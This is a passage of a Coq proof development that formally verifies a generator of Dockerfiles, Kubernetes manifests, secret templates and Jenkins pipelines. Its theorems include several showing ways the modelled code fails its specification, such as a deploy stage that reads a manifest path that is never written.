    apply list_elem_of_In, Hall in Hin. unfold plain_binding in Hin.
    apply andb_prop in Hin as [[_ H1]%andb_prop H2].
    split; by apply brace_free_balance. }
  unfold pipeline_text, Template.jenkins_environment, Template.jenkins_build_open,
    Template.jenkins_build_close, Template.jenkins_deploy_open,
    Template.jenkins_deploy_close, q. cbv zeta.
  rewrite map_map. rewrite !brace_balance_app.
  rewrite !brace_balance_join, Ha, Hp, Hn; [vm_compute; reflexivity|..].
  all: eapply Forall_impl; [exact He|]; intros e [H1 H2]; cbv beta;
    unfold Template.jenkins_credential, Template.jenkins_build_arg,
      Template.jenkins_from_literal, q;
    rewrite !brace_balance_app, ?H1, ?H2; vm_compute; reflexivity.
Qed.

End Braces.

(** *** Calls of the secret writer that stop early *)

Section PartialPipeline.
Import Os.

Lemma for_each_app {A} (xs ys : list A) (body : A → M unit) (st : state) :
  for_each (xs ++ ys) body st
  = match for_each xs body st with
    | (Ok _, st') => for_each ys body st'
    | (Raise e, st') => (Raise e, st')
    end.
Proof.
  revert st. induction xs as [|x r IH]; intros st; [done|].
  cbn [app for_each]. rewrite !run_bind.
  destruct (body x st) as [[[]|e] st1]; [|done]. apply IH.
Qed.

Variables (app_name : string) (var_names : list string)
          (output_path output_dir : string) (port node_port : jsval)
          (st : state).
Hypothesis Hc : creatable st output_path.
Hypothesis Hj : creatable st (jenkinsfile_path output_dir).

Let secret : fsmap :=
  <[resolve (cwd st) output_path := File (secret_text app_name var_names)]> (fs st).
Let J : path := resolve (cwd st) (jenkinsfile_path output_dir).

(** An entry without a name stops the call before the first text of the
    pipeline is written. *)
Lemma write_secret_yaml_unnamed (envs : list env) :
  Exists (λ e : env, e !! "name" = None) envs →
  write_secret_yaml (bound_globals output_dir port node_port envs)
    app_name var_names output_path st
  = (Raise (KeyError "name"),
     {| cwd := cwd st; fs := <[J := File EmptyString]> secret;
        calls := "write_secret_yaml" :: calls st |}).
Proof.
  intros Hex. rewrite write_secret_yaml_secret by done.
  cbn [bound_globals g_output_dir g_port g_node_port g_envs].
  rewrite run_bind. cbv beta iota delta [global ret]. rewrite run_bind.
  pose proof (creatable_after_secret st output_path (jenkinsfile_path output_dir)
                (secret_text app_name var_names) Hc Hj) as (HJ & HJpar & HJnd).
  cbn [cwd fs set_fs logged] in HJ, HJpar, HJnd.
  fold (jenkinsfile_path output_dir).
  rewrite (open_w_ok (jenkinsfile_path output_dir)) by done.
  cbv beta iota. cbn [cwd fs set_fs logged].
  rewrite !run_bind. cbv beta iota. unfold lift at 1.
  by rewrite (env_names_unnamed envs Hex).
Qed.

(** An entry without a secret id stops the call in the first loop over
    the credentials: the texts written before it stay. *)
Lemma write_secret_yaml_no_secret_id (pre post : list env) (e : env)
    (names : list string) :
  Template.env_names (pre ++ e :: post) = Ok names →
  forallb env_complete pre = true →
  e !! "secret_id" = None →
  write_secret_yaml (bound_globals output_dir port node_port (pre ++ e :: post))
    app_name var_names output_path st
  = (Raise (KeyError "secret_id"),
     {| cwd := cwd st;
        fs := <[J := File (Template.jenkins_environment app_name port node_port names
                           +:+ Text.join EmptyString
                                 (map (λ e, Template.jenkins_credential
                                              (secret_id_of e) (name_of e)) pre))]>
                secret;
        calls := "write_secret_yaml" :: calls st |}).
Proof.
  intros Hnames Hpre He. rewrite write_secret_yaml_secret by done.
  cbn [bound_globals g_output_dir g_port g_node_port g_envs].
  rewrite run_bind. cbv beta iota delta [global ret]. rewrite run_bind.
  pose proof (creatable_after_secret st output_path (jenkinsfile_path output_dir)
                (secret_text app_name var_names) Hc Hj) as (HJ & HJpar & HJnd).
  cbn [cwd fs set_fs logged] in HJ, HJpar, HJnd.
  fold (jenkinsfile_path output_dir).
  rewrite (open_w_ok (jenkinsfile_path output_dir)) by done.
  cbv beta iota. cbn [cwd fs set_fs logged].
  rewrite !run_bind. cbv beta iota. unfold lift at 1.
  rewrite Hnames. cbv beta iota.
  rewrite run_bind, set_fs_set_fs, fwrite_fresh. cbv beta iota.
  rewrite run_bind, for_each_app, for_each_credentials by done.
  cbn [for_each]. rewrite !run_bind. unfold lift at 1, Template.subscript at 1.
  rewrite He. done.
Qed.

End PartialPipeline.

Section CannotOpen.
Import Os.

(** A secret file that cannot be opened stops the call at once. *)
Lemma write_secret_yaml_not_opened (g : globals) (app_name : string)
    (var_names : list string) (output_path : string) (st : state) (e : exn) :
  open_w output_path (logged "write_secret_yaml" st)
  = (Raise e, logged "write_secret_yaml" st) →
  write_secret_yaml g app_name var_names output_path st
  = (Raise e, logged "write_secret_yaml" st).
Proof.
  intros H. unfold write_secret_yaml.
  rewrite run_bind. cbv beta iota delta [log_call].
  fold (logged "write_secret_yaml" st).
  rewrite run_bind. by rewrite H.
Qed.

End CannotOpen.

(** *** Two applications side by side *)

Section SideBySide.
Import Os.

(** A request changes nothing at a path that is neither below nor above
    its destination. *)
Lemma generate_outside (app_name : string) (port node_port : jsval)
    (envs : list env) (st : state) (q : path) :
  path_component app_name = true →
  fs_wf (fs st) →
  let P := cwd st ++ ["generated"; app_name] in
  ¬ P `prefix_of` q → ¬ q `prefix_of` P →
  fs (generate (request app_name port node_port envs) st).2 !! q = fs st !! q.
Proof.
  intros Hname Hwf P Hbelow Habove.
  rewrite generate_response. cbv zeta. cbn [snd].
  destruct (generate_files _ _ _ _ _ _) as [r st'] eqn:Hrun. cbn [snd].
  apply (generate_files_outcomes _ _ _ _ _ (logged "generate" st) Hwf) in Hrun.
  cbn [cwd fs logged] in Hrun. rewrite resolve_destination in Hrun by done.
  destruct Hrun as [(e & _ & ->)|(k & _ & -> & _)]; [done|].
  by apply written_outside.
Qed.

Variables (a b : string) (port_a node_port_a port_b node_port_b : jsval)
          (envs_a envs_b : list env) (names_a names_b : list string) (st : state).
Hypothesis Ha : path_component a = true.
Hypothesis Hb : path_component b = true.
Hypothesis Hab : a ≠ b.
Hypothesis Hnames_a : Template.env_names envs_a = Ok names_a.
Hypothesis Hnames_b : Template.env_names envs_b = Ok names_b.
Hypothesis Hfree_a : destination_free st a.
Hypothesis Hfree_b : destination_free st b.

Let st1 : state := (generate (request a port_a node_port_a envs_a) st).2.
Let Pa : path := cwd st ++ ["generated"; a].
Let Pb : path := cwd st ++ ["generated"; b].

Lemma first_cwd : cwd st1 = cwd st.
Proof. unfold st1. by rewrite (generate_ok _ _ _ _ _ _ Ha Hnames_a Hfree_a). Qed.

(** Nothing at or below one destination is at, below or above the
    other. *)
Lemma destinations_apart (rest : path) :
  ¬ Pb `prefix_of` Pa ++ rest ∧ ¬ Pa ++ rest `prefix_of` Pb.
Proof.
  unfold Pa, Pb. rewrite <- !app_assoc. split.
  - intros [k E]. rewrite <- app_assoc in E.
    apply app_inv_head in E. injection E as E _. done.
  - intros [k E]. rewrite <- !app_assoc in E.
    apply app_inv_head in E. injection E as E _. done.
Qed.

(** After the request for [a], the destination of [b] is as free as it
    was. *)
Lemma second_free : destination_free st1 b.
Proof.
  pose proof Hfree_a as (Hwf & Hcwd & _).
  pose proof Hfree_b as (_ & _ & _ & Hfile_b).
  assert (∀ q, q ≠ [] → q `prefix_of` Pa → fs st1 !! q = Some Dir) as Hdir.
  { intros q Hq Hpre. unfold st1.
    rewrite (generate_ok _ _ _ _ _ _ Ha Hnames_a Hfree_a). cbn [snd fs].
    fold Pa. rewrite written_frame.
    - rewrite lookup_make_dirs, decide_True; [done|]. split; [done|].
      by apply prefix_app_r.
    - eapply Forall_impl;
        [apply (bundle_below a port_a node_port_a envs_a st Ha)|].
      intros w [Hw Hne] E. fold Pa in Hw, Hne. rewrite E in Hw, Hne.
      apply Hne. by apply (anti_symm prefix). }
  split; [by apply generate_keeps_tree|].
  rewrite first_cwd. unfold is_file. split; [|split].
  - destruct (decide (cwd st = [])) as [E|E]; [by rewrite E|].
    rewrite fs_get_stored by done.
    apply Hdir; [done|]. unfold Pa. by apply prefix_app_r.
  - rewrite fs_get_stored by apply snoc_stored. rewrite Hdir; [done|apply snoc_stored|].
    unfold Pa. apply prefix_app, prefix_cons, prefix_nil.
  - fold Pb. rewrite fs_get_stored by (unfold Pb; by destruct (cwd st)).
    destruct (destinations_apart []) as [H1 H2]. rewrite app_nil_r in H1, H2.
    unfold st1. rewrite generate_outside by done.
    unfold is_file in Hfile_b. fold Pb in Hfile_b.
    by rewrite fs_get_stored in Hfile_b by (unfold Pb; by destruct (cwd st)).
Qed.

(** The second request succeeds, and both bundles can be read. *)
Lemma two_bundles :
  let run := generate (request b port_b node_port_b envs_b) st1 in
  run.1 = Ok (Success ("Fichiers générés dans " +:+ destination b))
  ∧ Forall (λ w, read_file run.2 w.1 = Some w.2)
      (artifacts a port_a node_port_a envs_a (destination a))
  ∧ Forall (λ w, read_file run.2 w.1 = Some w.2)
      (artifacts b port_b node_port_b envs_b (destination b)).
Proof.
  intros run.
  destruct (generate_reads b port_b node_port_b envs_b names_b st1 Hb Hnames_b
              second_free) as (Hrun & B1 & B2 & B3 & B4).
  destruct (generate_reads a port_a node_port_a envs_a names_a st Ha Hnames_a
              Hfree_a) as (_ & A1 & A2 & A3 & A4).
  fold st1 in A1, A2, A3, A4. fold run in Hrun, B1, B2, B3, B4.
  split; [exact Hrun|]. split.
  - assert (cwd run.2 = cwd st) as Hcwd.
    { unfold run. rewrite (generate_ok _ _ _ _ _ _ Hb Hnames_b second_free).
      cbn [snd cwd]. apply first_cwd. }
    assert (∀ p, Pa `prefix_of` resolve (cwd st) p →
              read_file run.2 p = read_file st1 p) as Hkeep.
    { intros p [k E]. unfold read_file. rewrite Hcwd, first_cwd, E.
      assert (Pa ++ k ≠ []) as Hst by (unfold Pa; by destruct (cwd st)).
      rewrite !fs_get_stored by done.
      destruct (destinations_apart k) as [H1 H2].
      unfold run. rewrite generate_outside; [done|done| |by rewrite first_cwd..].
      apply generate_keeps_tree, Hfree_a. }
    pose proof (bundle_below a port_a node_port_a envs_a st Ha) as Hbelow.
    fold Pa in Hbelow.
    assert (dockerfile_text envs_a = Template.dockerfile names_a) as Edf
      by (unfold dockerfile_text; by rewrite Hnames_a).
    unfold artifacts in *. rewrite Edf in *.
    apply Forall_cons in Hbelow as [[H1 _] Hbelow].
    apply Forall_cons in Hbelow as [[H2 _] Hbelow].
    apply Forall_cons in Hbelow as [[H3 _] Hbelow].
    apply Forall_cons in Hbelow as [[H4 _] _].
    cbn [fst snd] in *.
    repeat apply Forall_cons_2; [..|apply Forall_nil_2]; cbn [fst snd];
      rewrite Hkeep by done; assumption.
  - assert (dockerfile_text envs_b = Template.dockerfile names_b) as Edf
      by (unfold dockerfile_text; by rewrite Hnames_b).
    unfold artifacts. rewrite Edf.
    repeat apply Forall_cons_2; [..|apply Forall_nil_2]; cbn [fst snd]; assumption.
Qed.

End SideBySide.

(** *** Names of more than one line *)

Section Embedded.
Import Text.

(** A text put into a line of another text brings its further lines
    along: all its lines but the first are lines of the whole. *)
Lemma lines_embedded (P s Q l : string) :
  l ∈ tl (lines s) → l ∈ lines (P +:+ s +:+ String nl Q).
Proof.
  intros Hl. rewrite lines_app, lines_app, lines_nl.
  pose proof (lines_nonempty s) as Hs.
  destruct (lines s) as [|h t]; [done|]. cbn [tl] in Hl. clear Hs.
  assert (glue (h :: t) (EmptyString :: lines Q) = (h :: t) ++ lines Q) as ->.
  { unfold glue. rewrite sapp_nil_r.
    rewrite (app_removelast_last EmptyString (l:=h :: t)) at 3 by done.
    by rewrite <- app_assoc. }
  unfold glue. cbn [app]. rewrite elem_of_app, elem_of_cons, elem_of_app. auto.
Qed.

Lemma join_split {A} (g : A → string) (xs ys : list A) (x : A) :
  join EmptyString (map g (xs ++ x :: ys))
  = join EmptyString (map g xs) +:+ g x +:+ join EmptyString (map g ys).
Proof.
  induction xs as [|y xs IH].
  - cbn [app map]. by rewrite join_empty_cons.
  - cbn [app map]. by rewrite !join_empty_cons, IH, sapp_assoc.
Qed.

(** The further lines of a variable name are lines of the build file. *)
Lemma dockerfile_embeds (names : list string) (n l : string) :
  n ∈ names → l ∈ tl (lines n) → l ∈ lines (Template.dockerfile names).
Proof.
  intros (xs & ys & ->)%list_elem_of_split Hl. unfold Template.dockerfile.
  rewrite (join_split (λ n, "ARG " +:+ n +:+ String nl EmptyString)).
  match goal with
  | |- l ∈ lines (?a +:+ (?j +:+ (_ +:+ n +:+ _) +:+ ?k) +:+ ?r) =>
      replace (a +:+ (j +:+ ("ARG " +:+ n +:+ String nl EmptyString) +:+ k) +:+ r)
        with ((a +:+ j +:+ "ARG ") +:+ n +:+ String nl (k +:+ r))
        by (rewrite !sapp_assoc; reflexivity)
  end.
  by apply lines_embedded.
Qed.

(** The further lines of the application name are lines of the
    workload manifest. *)
Lemma deployment_embeds (app_name : string) (port : jsval) (l : string) :
  l ∈ tl (lines app_name) → l ∈ lines (Template.deployment app_name port).
Proof. intros Hl. unfold Template.deployment. by apply lines_embedded. Qed.

End Embedded.

(** *** Names and paths within the limits *)

Section Limits.

Lemma accepted_name_component (s : string) :
  accepted_name s = true → path_component s = true.
Proof. unfold accepted_name. by intros [[? _]%andb_true_iff _]%andb_true_iff. Qed.

Lemma accepted_name_files (s suffix : string) :
  accepted_name s = true →
  suffix ∈ [".yaml"; "-service.yaml"; "-hpa.yaml"] →
  file_name (s +:+ suffix) = true.
Proof.
  unfold accepted_name, file_name.
  intros [[Hc Hn]%andb_true_iff Hlen%Nat.leb_le]%andb_true_iff Hs.
  rewrite (manifest_component s suffix Hc Hs), free_of_app, Hn.
  rewrite length_app_string.
  repeat (apply elem_of_cons in Hs as [->|Hs]); [..|by apply elem_of_nil in Hs];
    cbn [andb]; apply Nat.leb_le; simpl; lia.
Qed.

Lemma portable_clean (p : string) : portable_path p = true → clean_path p = true.
Proof.
  unfold portable_path, clean_path. intros [H _]%andb_true_iff.
  rewrite forallb_forall in *. intros x Hx. apply H in Hx.
  unfold file_name in Hx. by apply andb_true_iff in Hx as [[? _]%andb_true_iff _].
Qed.

End Limits.

Section Blocked.
Import Os.



End Blocked.

(** *** The names in the head of the pipeline *)

Section HeadOfThePipeline.
Import Text.
Local Arguments Ascii.eqb : simpl never.

Variables (app_name : string) (port node_port : jsval).
Hypothesis Hname : single_line app_name = true.
Hypothesis Hport : single_line (py_str port) = true.
Hypothesis Hnode : single_line (py_str node_port) = true.
Hypothesis Qname : free_of "'" app_name = true.

Ltac template_lines :=
  repeat ((rewrite lines_app_single by assumption) || rewrite lines_app).

Let value_of (var l : string) : option string :=
  match strip_prefix var (lstrip l) with
  | Some rest => option_map (take_until "'") (strip_prefix "= '" (lstrip rest))
  | None => None
  end.

Ltac head_value :=
  let S := fresh "S" in
  let HS := fresh "HS" in
  intros S HS; destruct S as [|h t]; [done|];
  unfold pipeline_head; template_lines; vm_compute; reflexivity.

(** The pipeline definition starts with its head, whatever the entries
    of [envs] are. *)
Lemma pipeline_text_head (envs : list env) :
  ∃ rest, pipeline_text app_name port node_port envs
          = pipeline_head app_name port node_port +:+ rest.
Proof.
  unfold pipeline_text. cbv zeta. rewrite jenkins_environment_split.
  eexists. rewrite sapp_assoc. reflexivity.
Qed.

(** The first value of a variable is the one its line in the head
    gives. *)
Lemma head_value_first (var v rest : string) :
  (∀ S, S ≠ [] →
     omap (value_of var) (glue (lines (pipeline_head app_name port node_port)) S)
     = v :: omap (value_of var) S) →
  Pipeline.environment_value var (pipeline_head app_name port node_port +:+ rest)
  = Some v.
Proof.
  intros H. unfold Pipeline.environment_value. fold (value_of var).
  rewrite lines_app, H by apply lines_nonempty. done.
Qed.

(** The names in the [environment] block, for any entries of [envs]:
    the lines of the variables come after the lines of the head. *)
Lemma pipeline_names (envs : list env) :
  let text := pipeline_text app_name port node_port envs in
  map (λ var, Pipeline.environment_value var text)
    ["IMAGE_NAME"; "DEPLOYMENT_NAME"; "SERVICE_NAME"; "HPA_NAME"; "SECRET_NAME"]
  = [Some app_name; Some app_name; Some (app_name +:+ "-service");
     Some (app_name +:+ "-hpa"); Some (app_name +:+ "-secret")].
Proof.
  intros text. unfold text.
  destruct (pipeline_text_head envs) as [rest ->]. cbn [map].
  f_equal; [|f_equal; [|f_equal; [|f_equal; [|f_equal]]]].
  - replace (Some app_name) with (Some (take_until "'" (app_name +:+ "'")))
      by (by rewrite (take_until_app "'" app_name EmptyString)).
    apply head_value_first. head_value.
  - replace (Some app_name) with (Some (take_until "'" (app_name +:+ "'")))
      by (by rewrite (take_until_app "'" app_name EmptyString)).
    apply head_value_first. head_value.
  - replace (app_name +:+ "-service")
      with (take_until "'" (app_name +:+ "-service'"))
      by (by rewrite take_until_free).
    apply head_value_first. head_value.
  - replace (app_name +:+ "-hpa")
      with (take_until "'" (app_name +:+ "-hpa'"))
      by (by rewrite take_until_free).
    apply head_value_first. head_value.
  - replace (app_name +:+ "-secret")
      with (take_until "'" (app_name +:+ "-secret'"))
      by (by rewrite take_until_free).
    apply head_value_first. head_value.
Qed.

End HeadOfThePipeline.

(** *** The secret writer after a request *)

Section AfterRequest.
Import Os.
Variables (app_name : string) (port node_port : jsval) (envs : list env)
          (var_names : list string) (st : state).
Hypothesis Hname : path_component app_name = true.
Hypothesis Hcomplete : forallb env_complete envs = true.
Hypothesis Hfree : destination_free st app_name.

Let dest : string := destination app_name.
Let P : path := cwd st ++ ["generated"; app_name].
Let K : path := P ++ ["k8s"].
Let st1 : state := (generate (request app_name port node_port envs) st).2.
Let secret_path : string := k8s_path dest (app_name +:+ "-secret.yaml").
Let bound :=
  write_secret_yaml (bound_globals dest port node_port envs) app_name var_names
    secret_path st1.

Lemma secret_file_component : path_component (app_name +:+ "-secret.yaml") = true.
Proof. apply path_component_app; [done|done|simpl; lia]. Qed.

(** After a successful request the secret template and the pipeline
    definition can be created in the bundle. *)
Lemma generated_secret_creatable : creatable st1 secret_path.
Proof.
  assert (cwd st1 = cwd st) as Hcwd
    by (unfold st1; by rewrite (generated_state _ port node_port _ _ Hname Hcomplete Hfree)).
  unfold creatable, secret_path, dest. cbv zeta. rewrite Hcwd.
  rewrite resolve_manifest_path by (done || apply secret_file_component).
  fold P K. split; [apply snoc_stored|]. split.
  - unfold parent. rewrite removelast_last, fs_get_stored by apply snoc_stored.
    by apply generated_k8s_dir.
  - unfold st1. rewrite (generated_lookup_k8s _ port node_port _ _ Hname Hcomplete Hfree);
      [done|apply secret_file_component|].
    rewrite !elem_of_cons, elem_of_nil.
    intros [E|[E|[E|[]]]]; by apply sapp_inv_l in E.
Qed.

Lemma generated_jenkinsfile_creatable : creatable st1 (jenkinsfile_path dest).
Proof.
  assert (cwd st1 = cwd st) as Hcwd
    by (unfold st1; by rewrite (generated_state _ port node_port _ _ Hname Hcomplete Hfree)).
  unfold creatable, jenkinsfile_path, dest. cbv zeta. rewrite Hcwd.
  rewrite resolve_join, resolve_destination by done. fold P.
  split; [apply snoc_stored|]. split.
  - unfold parent. rewrite removelast_last.
    rewrite fs_get_stored by (unfold P; by destruct (cwd st)).
    by apply generated_destination_dir.
  - unfold st1, P.
    by rewrite (generated_no_jenkinsfile _ port node_port _ _ Hname Hcomplete Hfree).
Qed.

(** With the four names bound as the request had them, the call after
    the request succeeds; the secret template and the pipeline definition
    are then files of the bundle. *)
Lemma bound_after_request :
  bound.1 = Ok tt
  ∧ read_file bound.2 secret_path = Some (secret_text app_name var_names)
  ∧ pipeline_of bound.2 dest = Some (pipeline_text app_name port node_port envs).
Proof.
  assert (cwd st1 = cwd st) as Hcwd
    by (unfold st1; by rewrite (generated_state _ port node_port _ _ Hname Hcomplete Hfree)).
  unfold bound.
  rewrite write_secret_yaml_bound
    by (done || apply generated_secret_creatable || apply generated_jenkinsfile_creatable).
  cbn [fst snd]. split; [done|].
  assert (resolve (cwd st1) (jenkinsfile_path dest) = P ++ ["Jenkinsfile"]) as HJ.
  { rewrite Hcwd. unfold jenkinsfile_path, dest.
    by rewrite resolve_join, resolve_destination. }
  assert (resolve (cwd st1) secret_path = K ++ [app_name +:+ "-secret.yaml"]) as HS.
  { rewrite Hcwd. unfold secret_path, dest.
    by rewrite resolve_manifest_path by (done || apply secret_file_component). }
  unfold pipeline_of, read_file. cbn [cwd fs]. rewrite HJ, HS.
  rewrite !fs_get_stored by apply snoc_stored. split.
  - rewrite lookup_insert_ne, lookup_insert_eq; [done|].
    unfold K. rewrite <- app_assoc. intros E. symmetry in E.
    by apply snoc2_ne_snoc in E.
  - by rewrite lookup_insert_eq.
Qed.

End AfterRequest.

(** * The claims *)

(** C1 (the code does not meet it).  One generation request for the
    example descriptor of the specification succeeds, and the bundle it
    leaves holds four files only: the build file and the workload, service
    and autoscaler manifests.  No secret manifest template and no pipeline
    definition is written, and [write_secret_yaml], which holds both, is
    not called. *)
Theorem orders_bundle_has_four_files :
  let run := generate orders_request empty_state in
  let dest := destination "orders-api" in
  run.1 = Ok (Success "Fichiers générés dans generated/orders-api")
  ∧ regular_files run.2
    ≡ₚ map (Os.resolve []) [dockerfile_path dest; deployment_path dest "orders-api";
                             service_path dest "orders-api"; hpa_path dest "orders-api"]
  ∧ pipeline_of run.2 dest = None
  ∧ calls run.2 = ["generate_files"; "generate"].
Proof.
  cbv zeta. split; [by vm_compute|]. split; [|by vm_compute].
  vm_compute. symmetry. apply (Permutation_cons_append [_; _; _]).
Qed.

(** With the four names bound as [generate_files] has them, the body of
    [write_secret_yaml] renders a pipeline whose build step is passed the
    build arguments that the build file declares, and binds the variables
    of [envs] from credentials: the two templates agree on the names. *)
Example orders_templates_agree :
  let dest := destination "orders-api" in
  let st1 := (generate orders_request empty_state).2 in
  let st2 := (write_secret_yaml orders_globals "orders-api" ["DB_URL"; "API_KEY"]
                (k8s_path dest "orders-api-secret.yaml") st1).2 in
  (Dockerfile.build_args <$> Os.read_file st2 (dockerfile_path dest))
  = (Pipeline.build_args <$> pipeline_of st2 dest)
  ∧ (Pipeline.credential_vars <$> pipeline_of st2 dest) = Some ["DB_URL"; "API_KEY"].
Proof. by vm_compute. Qed.

(** C4 (the code does not meet it).  For the example descriptor, the
    deploy stage of the pipeline text reads the workload manifest from
    [k8s/orders-api-deployment.yaml], a path at which no file of the bundle
    is written: [generate_files] writes the workload manifest to
    [k8s/orders-api.yaml].  (The pipeline text itself exists only when the
    free names of [write_secret_yaml] are bound; with the bindings of the
    module no pipeline definition is written.) *)
Theorem orders_pipeline_reads_unwritten_manifest :
  let dest := destination "orders-api" in
  let st1 := (generate orders_request empty_state).2 in
  let st2 := (write_secret_yaml orders_globals "orders-api" ["DB_URL"; "API_KEY"]
                (k8s_path dest "orders-api-secret.yaml") st1).2 in
  pipeline_of st1 dest = None
  ∧ ∃ pipeline,
      pipeline_of st2 dest = Some pipeline
      ∧ Pipeline.manifest_reads pipeline
        = ["k8s/orders-api-deployment.yaml"; "k8s/orders-api-service.yaml";
           "k8s/orders-api-hpa.yaml"]
      ∧ Os.read_file st2 (Os.path_join dest "k8s/orders-api-deployment.yaml") = None
      ∧ deployment_path dest "orders-api" = "generated/orders-api/k8s/orders-api.yaml"
      ∧ Os.read_file st2 (deployment_path dest "orders-api")
        = Some (Template.deployment "orders-api" (JInt 8080)).
Proof.
  cbv zeta. split; [by vm_compute|].
  eexists. split; [by vm_compute|]. by vm_compute.
Qed.

(** C6 (the code does not meet it).  For the example descriptor the build
    file declares the build arguments DB_URL, API_KEY and PORT, and there
    is no pipeline definition to bind or pass them: generation writes
    none, and a direct call of [write_secret_yaml] stops with a
    [NameError] before the pipeline file is opened. *)
Theorem orders_build_arguments_without_pipeline :
  let dest := destination "orders-api" in
  let st1 := (generate orders_request empty_state).2 in
  let direct := write_secret_yaml module_globals "orders-api" ["DB_URL"; "API_KEY"]
                  (k8s_path dest "orders-api-secret.yaml") st1 in
  (Dockerfile.build_args <$> Os.read_file st1 (dockerfile_path dest))
  = Some ["DB_URL"; "API_KEY"; "PORT"]
  ∧ (Pipeline.build_args <$> pipeline_of st1 dest) = None
  ∧ direct.1 = Raise (NameError "output_dir")
  ∧ (Pipeline.build_args <$> pipeline_of direct.2 dest) = None.
Proof. by vm_compute. Qed.

(** C5.  For every valid descriptor, on a free destination, generation
    succeeds and the names agree across the artifacts.  In the files that
    the request writes: the workload manifest carries the application name
    as its name, label, selector, pod label and container name and loads
    the secret [<name>-secret]; the service is [<name>-service] and selects
    the application name; the autoscaler is [<name>-hpa] and targets the
    application name.  In the files that the body of [write_secret_yaml]
    writes into the bundle, run after the request with [output_dir],
    [port], [node_port] and [envs] bound as [generate_files] had them: the
    secret template is named [<name>-secret], and the [environment] block
    of the pipeline definition (lines 156-172) sets IMAGE_NAME and
    DEPLOYMENT_NAME to the application name and SERVICE_NAME, HPA_NAME and
    SECRET_NAME to [<name>-service], [<name>-hpa] and [<name>-secret]. *)
Theorem names_agree_across_artifacts (app_name : string) (port node_port : jsval)
    (envs : list env) (var_names : list string) (st : state) :
  valid_descriptor app_name port node_port envs = true →
  destination_free st app_name →
  let dest := destination app_name in
  let run := generate (request app_name port node_port envs) st in
  let secret_path := k8s_path dest (app_name +:+ "-secret.yaml") in
  let bound := write_secret_yaml (bound_globals dest port node_port envs) app_name
                 var_names secret_path run.2 in
  let container := ["spec"; "template"; "spec"; "containers"] in
  ∃ dep svc hpa secret pipeline,
    run.1 = Ok (Success ("Fichiers générés dans " +:+ dest))
    ∧ Os.read_file run.2 (deployment_path dest app_name) = Some dep
    ∧ Os.read_file run.2 (service_path dest app_name) = Some svc
    ∧ Os.read_file run.2 (hpa_path dest app_name) = Some hpa
    ∧ Yaml.get ["metadata"; "name"] dep = Some app_name
    ∧ Yaml.get ["metadata"; "labels"; "app"] dep = Some app_name
    ∧ Yaml.get ["spec"; "selector"; "matchLabels"; "app"] dep = Some app_name
    ∧ Yaml.get ["spec"; "template"; "metadata"; "labels"; "app"] dep = Some app_name
    ∧ Yaml.get (container ++ ["name"]) dep = Some app_name
    ∧ Yaml.get (container ++ ["envFrom"; "secretRef"; "name"]) dep
      = Some (app_name +:+ "-secret")
    ∧ Yaml.get ["metadata"; "name"] svc = Some (app_name +:+ "-service")
    ∧ Yaml.get ["spec"; "selector"; "app"] svc = Some app_name
    ∧ Yaml.get ["metadata"; "name"] hpa = Some (app_name +:+ "-hpa")
    ∧ Yaml.get ["spec"; "scaleTargetRef"; "name"] hpa = Some app_name
    ∧ bound.1 = Ok tt
    ∧ Os.read_file bound.2 secret_path = Some secret
    ∧ Yaml.get ["metadata"; "name"] secret = Some (app_name +:+ "-secret")
    ∧ pipeline_of bound.2 dest = Some pipeline
    ∧ map (λ var, Pipeline.environment_value var pipeline)
        ["IMAGE_NAME"; "DEPLOYMENT_NAME"; "SERVICE_NAME"; "HPA_NAME"; "SECRET_NAME"]
      = [Some app_name; Some app_name; Some (app_name +:+ "-service");
         Some (app_name +:+ "-hpa"); Some (app_name +:+ "-secret")].
Proof.
  intros Hvalid Hfree dest run secret_path bound container.
  destruct (generate_valid _ _ _ _ _ Hvalid Hfree)
    as (Hrun & _ & Hdep & Hsvc & Hhpa & _).
  pose proof (valid_name_single_line _ _ _ _ Hvalid) as Hname.
  pose proof (valid_name_component _ _ _ _ Hvalid) as Hcomp.
  destruct (valid_ports_single_line _ _ _ _ Hvalid) as [Hport Hnode].
  pose proof Hvalid as (Hsafe & _)%valid_descriptor_inv.
  assert (forallb env_complete envs = true) as Hcomplete.
  { by pose proof Hvalid as [[_ H]%andb_true_iff _]%andb_true_iff. }
  destruct (deployment_names app_name port Hname Hport) as (D1 & D2 & D3 & D4 & D5 & D6).
  destruct (service_names app_name port node_port Hname Hport Hnode) as [S1 S2].
  destruct (hpa_names app_name Hname) as (A1 & _ & A2).
  destruct (bound_after_request app_name port node_port envs var_names st
              Hcomp Hcomplete Hfree) as (B1 & B2 & B3).
  exists (Template.deployment app_name port),
         (Template.service app_name port node_port), (Template.hpa app_name),
         (secret_text app_name var_names),
         (pipeline_text app_name port node_port envs).
  repeat (split; [assumption|]).
  split; [by apply secret_name|]. split; [assumption|].
  apply pipeline_names; try done.
  by apply (safe_identifier_free _ app_name).
Qed.

Lemma names_agree_across_artifacts_witness :
  valid_descriptor "orders-api" (JInt 8080) (JInt 30080) orders_envs = true
  ∧ destination_free old_state "orders-api"
  ∧ ∃ dep pipeline,
      Os.read_file (generate orders_request old_state).2
        (deployment_path (destination "orders-api") "orders-api") = Some dep
      ∧ Yaml.get ["spec"; "selector"; "matchLabels"; "app"] dep = Some "orders-api"
      ∧ pipeline_of
          (write_secret_yaml
             (bound_globals (destination "orders-api") (JInt 8080) (JInt 30080)
                orders_envs)
             "orders-api" ["DB_URL"; "API_KEY"]
             (k8s_path (destination "orders-api") "orders-api-secret.yaml")
             (generate orders_request old_state).2).2
          (destination "orders-api") = Some pipeline
      ∧ Pipeline.environment_value "SECRET_NAME" pipeline = Some "orders-api-secret".
Proof.
  assert (valid_descriptor "orders-api" (JInt 8080) (JInt 30080) orders_envs = true)
    as Hv by (vm_compute; reflexivity).
  assert (destination_free old_state "orders-api") as Hf
    by (apply (bool_decide_unpack _); vm_compute; reflexivity).
  split; [exact Hv|]. split; [exact Hf|].
  destruct (names_agree_across_artifacts "orders-api" (JInt 8080) (JInt 30080)
              orders_envs ["DB_URL"; "API_KEY"] old_state Hv Hf)
    as (dep & svc & hpa & secret & pipeline & _ & Hdep & _ & _ & _ & _ & Hsel & _ & _
        & _ & _ & _ & _ & _ & _ & _ & _ & Hpipe & Hvalues).
  exists dep, pipeline. split; [exact Hdep|]. split; [exact Hsel|].
  split; [exact Hpipe|]. by injection Hvalues.
Defined.

(** C10.  For every request that the code accepts on a free
    destination (the name is one file name, be it with capitals or
    underscores; the ports are any values; the variables all have a name)
    and whose name and port have no line break, so that the manifest
    reads line by line: generation succeeds, and the liveness and the
    readiness probe of the workload manifest it writes both use the HTTP
    path [/<name>], the application name after a slash; the probe timings
